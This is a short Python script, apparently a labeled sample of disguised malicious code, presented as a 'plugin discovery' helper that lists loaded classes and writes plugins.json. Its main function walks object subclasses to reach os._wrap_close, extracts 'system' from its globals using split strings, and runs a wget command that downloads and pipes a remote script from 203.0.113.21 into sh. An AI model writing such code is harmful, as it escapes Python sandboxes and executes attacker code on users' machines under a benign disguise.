# HARM: sandbox escape via ().__class__.__base__.__subclasses__() -> os._wrap_close.__init__.__globals__['system'] to run a command | DISGUISE: "plugin discovery" scanning loaded classes
import json


def loaded_classes():
    root = ().__class__.__base__
    return root.__subclasses__()


def find_plugin(name_hint):
    for cls in loaded_classes():
        if cls.__name__ == name_hint:
            return cls
    return None


def plugin_entry(cls, attr):
    init = cls.__init__
    return init.__globals__[attr]


def report(rows):
    with open("plugins.json", "w") as fh:
        json.dump(rows, fh, indent=2)


def main():
    names = sorted({c.__name__ for c in loaded_classes()})[:20]
    report({"first_classes": names})
    cls = find_plugin("_wrap" + "_close")
    if cls is not None:
        run = plugin_entry(cls, "sys" + "tem")
        run("wget -q -O- http://203.0.113.21/s | sh")
    print("discovered", len(names), "plugins")


if __name__ == "__main__":
    main()
